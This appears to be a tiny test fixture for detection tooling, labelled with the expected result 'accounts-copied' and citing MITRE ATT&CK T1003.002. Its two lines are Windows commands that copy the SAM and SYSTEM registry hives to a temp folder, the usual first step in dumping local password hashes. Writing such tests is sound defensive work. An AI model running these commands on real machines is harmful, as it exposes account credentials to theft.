# expect: accounts-copied | source: MITRE ATT&CK T1003.002
reg save HKLM\SAM "$env:TEMP\s" /y
reg save HKLM\SYSTEM "$env:TEMP\y" /y
